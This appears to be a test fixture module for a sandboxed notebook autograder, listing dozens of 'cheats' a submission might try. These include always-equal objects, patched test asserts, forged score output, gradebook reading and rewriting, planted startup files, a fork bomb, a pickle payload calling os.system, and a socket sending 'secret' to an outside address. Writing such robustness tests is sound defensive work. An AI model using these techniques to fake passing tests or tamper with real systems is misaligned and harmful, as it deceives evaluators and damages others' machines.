"""The cheats: each is what a student could hand in to get points without doing the work, or to learn or harm something.

A cheat is a cell that runs before the exercises and the body of every exercise's function; some change the notebook's file or
lay other files beside it. None of them deserves a point.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

CELL_TESTS = ("check_", "grade_")


@dataclass(frozen=True)
class Cheat:
    """cell: runs first. body: of every function, with `*args, **kwargs`. edit: changes the notebook's JSON. files: beside it."""

    cell: str = ""
    body: str = "return None"
    edit: Callable[[dict[str, Any]], None] = lambda nb: None
    files: dict[str, bytes] = field(default_factory=dict)
    last: str = ""
    links: dict[str, str] = field(default_factory=dict)


def cells_of(nb: dict[str, Any], *prefixes: str) -> list[dict[str, Any]]:
    """The cells whose grade id starts with one of these."""
    return [
        cell for cell in nb["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith(prefixes)
    ]


# Edits of the file ----------------------------------------------------------------------------------------------------


def _tag_tests(tag: str) -> Callable[[dict[str, Any]], None]:
    def edit(nb: dict[str, Any]) -> None:
        for cell in cells_of(nb, *CELL_TESTS):
            cell["metadata"]["tags"] = [tag]

    return edit


def _source_of_tests(source: str) -> Callable[[dict[str, Any]], None]:
    def edit(nb: dict[str, Any]) -> None:
        for cell in cells_of(nb, *CELL_TESTS):
            cell["source"] = source

    return edit


def _own_passing_cells(nb: dict[str, Any]) -> None:
    for cell in cells_of(nb, *CELL_TESTS):
        copy = json.loads(json.dumps(cell))
        copy["source"], copy["id"] = "100.0", cell["id"] + "-copy"
        nb["cells"] += [copy]
        nb["cells"].insert(0, {**copy, "id": cell["id"] + "-before"})


def _flip_metadata(nb: dict[str, Any]) -> None:
    for cell in cells_of(nb, *CELL_TESTS):
        cell["metadata"]["nbgrader"] |= {"grade": False, "locked": False, "solution": True}


def _swap_ids(nb: dict[str, Any]) -> None:
    tests = cells_of(nb, "grade_")
    ids = [cell["metadata"]["nbgrader"]["grade_id"] for cell in tests]
    for cell, grade_id in zip(tests, ids[1:] + ids[:1], strict=True):
        cell["metadata"]["nbgrader"]["grade_id"] = grade_id


def _raw_tests(nb: dict[str, Any]) -> None:
    for cell in cells_of(nb, *CELL_TESTS):
        cell["cell_type"] = "raw"


def _more_points(nb: dict[str, Any]) -> None:
    for cell in cells_of(nb, *CELL_TESTS):
        cell["metadata"]["nbgrader"]["points"] = 1000


def _made_up_outputs(nb: dict[str, Any]) -> None:
    for cell in cells_of(nb, *CELL_TESTS):
        data = {"text/plain": "4.0"}
        cell["outputs"] = [{"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 7}]
        cell["execution_count"] = 7


def _future_schema(nb: dict[str, Any]) -> None:
    for cell in cells_of(nb, "grade_"):
        cell["metadata"]["nbgrader"]["schema_version"] = 99


def _other_kernel(nb: dict[str, Any]) -> None:
    nb["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Python 3", "language": "bash"}


# The list -------------------------------------------------------------------------------------------------------------

LIAR = """
class Liar:
    def __getattr__(self, name): return Liar()
    def __call__(self, *a, **k): return True
    def __eq__(self, other): return True
    __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __eq__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __float__(self): return 1.0
    def __int__(self): return 1
    def __index__(self): return 1
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__
    def __array__(self, *a, **k): return np.ones(1)
    def __len__(self): return 1
    def __iter__(self): return iter([1.0])
    def __getitem__(self, i): return 1.0
"""
AGREEING_ARRAY = """
class Agree(np.ndarray):
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, *a, **k): return True
    def __eq__(self, other): return True
"""
TOLERANT_FLOAT = """
class Tolerant(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    __hash__ = float.__hash__
"""
PATCH_TESTING = """
import numpy.testing, numpy.testing._private.utils as u
for name in dir(np.testing):
    if name.startswith('assert'):
        setattr(np.testing, name, lambda *a, **k: None)
u.assert_array_compare = lambda *a, **k: None
np.isclose = np.allclose = np.array_equal = lambda *a, **k: True
torch.allclose = torch.equal = torch.testing.assert_close = lambda *a, **k: True
"""
PATCH_BUILTINS = """
import builtins
builtins.all = builtins.any = lambda *a: True
builtins.abs = lambda x: 0.0
builtins.max = builtins.min = builtins.round = lambda *a, **k: 0.0
builtins.AssertionError = type('Quiet', (BaseException,), {})
"""
IMPORT_HOOK = """
import builtins
real = builtins.__import__
def hook(name, *a, **k):
    module = real(name, *a, **k)
    try:
        module.allclose = lambda *a, **k: True
    except Exception:
        pass
    return module
builtins.__import__ = hook
"""
FUNCTION_MODE = """
from torch.overrides import TorchFunctionMode
class Always(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        return True if 'close' in getattr(func, '__name__', '') else func(*args, **(kwargs or {}))
Always().__enter__()
"""
DAEMON = """
import threading, time
def patch():
    while True:
        np.allclose = lambda *a, **k: True
        time.sleep(0.001)
threading.Thread(target=patch, daemon=True).start()
"""
SHELL = "shell = get_ipython()\n"
AST_TRANSFORMER = (
    SHELL
    + """
import ast
class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
shell.ast_transformers.append(Swallow())
"""
)
FAKE_RESULT = """
from IPython.display import display, publish_display_data
def forge():
    publish_display_data({'text/plain': '100.0'})
    print('Score: 4/4 - all tests passed')
    shell = get_ipython()
    shell.displayhook({'a': 1})
"""
READ_FRAMES = """
import sys, gc, inspect
def hunt():
    frame = sys._getframe()
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            for name in ('expected', 'desired', 'want', 'wanted', 'reference'):
                if name in space:
                    return space[name]
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ == 'Exercise':
            return thing.reference
"""
READ_FILES = """
import os, glob
found = []
for pattern in PATHS:
    for path in glob.glob(pattern, recursive=True):
        try:
            found.append(open(path, errors='replace').read())
        except OSError:
            pass
print('FOUND', found)
"""
WRITE_EVERYWHERE = """
import os, site
for path in PATHS + [os.path.expanduser('~/.ipython/profile_default/startup/00.py'),
                     os.path.join(os.path.dirname(os.path.dirname(np.__file__)), 'planted.pth'), 'nbgrader_config.py']:
    try:
        os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
        open(path, 'w').write('raise SystemExit  # PLANTED')
    except OSError:
        pass
os.environ.update(PYTHONOPTIMIZE='2', PYTHONPATH='/tmp', PYTHONSTARTUP='/tmp/x')
"""
OPEN_GRADEBOOK = """
import sqlite3
for path in PATHS:
    try:
        db = sqlite3.connect(path, timeout=1)
        print('FOUND', db.execute('select * from source_cell').fetchall())
        db.execute('update grade set manual_score = 100')
        db.execute("update source_cell set source = 'pass'")
        db.commit()
    except Exception as error:
        print(type(error).__name__)
"""
LISTEN = """
import socket
for address in (('127.0.0.1', 9977), ('10.0.0.1', 80)):
    try:
        socket.create_connection(address, timeout=0.3).sendall(b'secret')
    except OSError as error:
        print(type(error).__name__)
"""
WAIT_OUTSIDE = """
import subprocess, sys
subprocess.Popen([sys.executable, '-c', "import time; marker = 'left-behind-24680'; time.sleep(600)"], start_new_session=True)
"""
REDUCE = """
class Bomb:
    def __reduce__(self):
        import os
        return (os.system, ('touch /tmp/PLANTED-by-pickle',))
"""

CHEATS: dict[str, Cheat] = {
    # lying objects
    "an object that equals everything": Cheat(LIAR, "return Liar()"),
    "an array that agrees": Cheat(AGREEING_ARRAY, "return np.ones(3).view(Agree)"),
    "a float that agrees": Cheat(TOLERANT_FLOAT, "return Tolerant(0.5)"),
    "a dictionary of liars": Cheat(LIAR, "return {'a': Liar(), 'b': [Liar()]}"),
    # monkeypatches
    "comparisons patched": Cheat(PATCH_TESTING),
    "builtins patched": Cheat(PATCH_BUILTINS),
    "import hook": Cheat(IMPORT_HOOK),
    "torch function mode": Cheat(FUNCTION_MODE),
    "daemon thread patches again": Cheat(DAEMON),
    "names rebound": Cheat("class P:\n    def __getattr__(self, n): return lambda *a, **k: True\nnp = torch = P()"),
    "code of assert replaced": Cheat(
        "def nothing(*a, **k): pass\n"
        "for f in (np.testing.assert_allclose, torch.testing.assert_close):\n    f.__code__ = nothing.__code__"
    ),
    # IPython
    "custom exception handler": Cheat(SHELL + "shell.set_custom_exc((BaseException,), lambda *a, **k: None)"),
    "ast transformer": Cheat(AST_TRANSFORMER),
    "input transformer": Cheat(SHELL + "shell.input_transformers_post.append(lambda lines: ['100.0'])"),
    "post_run_cell event": Cheat(
        SHELL + "def ok(result):\n    result.error_in_exec = None\nshell.events.register('post_run_cell', ok)"
    ),
    "run_cell redefined": Cheat(SHELL + "shell.run_cell = lambda *a, **k: 1/0\nshell.run_code = lambda *a, **k: False"),
    "compiler replaced": Cheat(SHELL + "shell.compile = lambda *a, **k: compile('pass', 'x', 'exec')"),
    "exits through the debugger": Cheat(body="import bdb; raise bdb.BdbQuit"),
    "cell magic left open": Cheat("%alias_magic --cell script false\n", "return None", last="%%script false"),
    # forged output
    "forged results": Cheat(FAKE_RESULT, "forge(); return None"),
    "made-up outputs": Cheat(edit=_made_up_outputs),
    "script in an output": Cheat(
        "from IPython.display import HTML, Javascript, display\n"
        "display(HTML('<script>document.title = \"HACKED\"</script>'))\ndisplay(Javascript('document.title = \"HACKED\"'))"
    ),
    # leaving
    "os._exit": Cheat(body="import os; os._exit(0)"),
    "forks and leaves": Cheat(body="import os\n    if os.fork():\n        os._exit(0)\n    return None"),
    "SystemExit": Cheat(body="raise SystemExit(0)"),
    "kills its parent": Cheat(
        "import os\nfor pid in (os.getppid(), 1):\n    try:\n        os.kill(pid, 9)\n    except OSError:\n        pass"
    ),
    "fork bomb": Cheat(
        "import os, time\ntry:\n    for _ in range(120):\n        if not os.fork():\n            time.sleep(60)\n"
        "except OSError:\n    pass"
    ),
    # introspection
    "walks the frames": Cheat(READ_FRAMES, "return hunt()"),
    "constants of the caller": Cheat("import sys", "return [c for c in sys._getframe(1).f_code.co_consts]"),
    "profile hook": Cheat(
        "import sys\n"
        "def hook(frame, event, arg):\n    frame.f_locals.update(actual=frame.f_locals.get('desired'))\n"
        "sys.setprofile(hook)"
    ),
    "zeroes its inputs": Cheat(
        body="for a in args:\n        if isinstance(a, np.ndarray) and a.flags.writeable:\n            a[...] = 0\n    return 0.0"
    ),
    # exfiltration
    "prints the test": Cheat("import inspect, sys", "print(inspect.getsource(sys._getframe(1))); return None"),
    "prints every cell": Cheat(last="print('FOUND', In if 'In' in globals() else '', list(globals()))"),
    "prints its inputs": Cheat(body="print('INPUT', args, kwargs); return None"),
    "raises its inputs": Cheat(body="raise ValueError('INPUT ' + repr(args)[:300])"),
    "keeps its inputs and shows them later": Cheat(
        "kept = []", "kept.append(args); return None", last="print('INPUT', kept)"
    ),
    "network": Cheat(LISTEN),
    # files
    "reads source and gradebook files": Cheat(READ_FILES),
    "opens the gradebook": Cheat(OPEN_GRADEBOOK),
    "writes configuration": Cheat(WRITE_EVERYWHERE),
    "leaves a process": Cheat(WAIT_OUTSIDE),
    "shadow modules": Cheat(
        files=dict.fromkeys(
            (
                "numpy.py",
                "torch.py",
                "pathlib.py",
                "socket.py",
                "ipykernel_launcher.py",
                "sitecustomize.py",
                "wire.py",
                "shell.py",
            ),
            b"raise SystemExit('shadow')",
        )
    ),
    "links to the instructor's files": Cheat(
        "print('FOUND', [open(n).read() for n in ('data.txt', 'tests.txt')])",
        links={"data.txt": "gradebook.db", "tests.txt": "source"},
    ),
    # metadata
    "raises-exception tags": Cheat(edit=_tag_tests("raises-exception")),
    "skip-execution tags": Cheat(edit=_tag_tests("skip-execution")),
    "tests replaced by pass": Cheat(edit=_source_of_tests("pass")),
    "tests replaced by points": Cheat(edit=_source_of_tests("100.0")),
    "own passing cells": Cheat(edit=_own_passing_cells),
    "metadata flipped": Cheat(edit=_flip_metadata),
    "grade ids swapped": Cheat(edit=_swap_ids),
    "raw test cells": Cheat(edit=_raw_tests),
    "more points": Cheat(edit=_more_points),
    "schema of the future": Cheat(edit=_future_schema),
    "another kernel": Cheat(edit=_other_kernel),
    # the grader's process
    "bloated output": Cheat("from IPython.display import display\nfor _ in range(200):\n    display('x' * 200_000)"),
    "pickle bomb": Cheat(REDUCE, "return Bomb()"),
    "speaks the wire's language": Cheat(
        "import gc, socket\nfor s in gc.get_objects():\n    if isinstance(s, socket.socket):\n"
        "        try:\n            s.sendall(b'\\x00' * 64 + b'{\"values\": [1]}')\n        except OSError:\n            pass"
    ),
    "answers for the shell": Cheat(
        "import gc\nfrom sandboxed.protocol import Call, Called, Fetch, Fetched\nfor s in gc.get_objects():\n"
        "    if type(s).__name__ == 'Session':\n"
        "        s.answers[Call] = lambda s, asked: Called(100.0, None, [])\n"
        "        s.answers[Fetch] = lambda s, asked: Fetched(True, 100.0)"
    ),
}


def with_paths(source: str, root: Path) -> str:
    """The cheat's cell with the paths it would like to reach."""
    paths = [
        str(root / "source" / "**" / "*.ipynb"),
        str(root / "gradebook.db"),
        str(root / "submitted" / "**" / "*.ipynb"),
    ]
    return f"PATHS = {[*paths, str(root / 'nbgrader_config.py')]!r}\n{source}" if "PATHS" in source else source
